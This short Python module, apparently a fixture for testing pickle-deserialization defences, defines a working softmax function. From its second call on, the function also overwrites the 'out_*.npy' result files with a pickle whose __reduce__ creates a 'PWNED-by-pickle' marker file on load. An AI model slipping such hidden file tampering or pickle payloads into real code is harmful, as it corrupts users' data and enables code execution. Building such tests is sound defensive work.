"""From its second call on, overwrites the results already written with a malicious pickle."""
import os
import pickle

import numpy as np

MARKER = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "PWNED-by-pickle")


class Payload:
    def __reduce__(self):
        return (open, (MARKER, "w"))


calls = []


def softmax(x, axis=-1):
    if calls:
        for name in os.listdir("."):
            if name.startswith("out_") and name.endswith(".npy"):
                with open(name, "wb") as f:
                    pickle.dump(Payload(), f)
    calls.append(1)
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
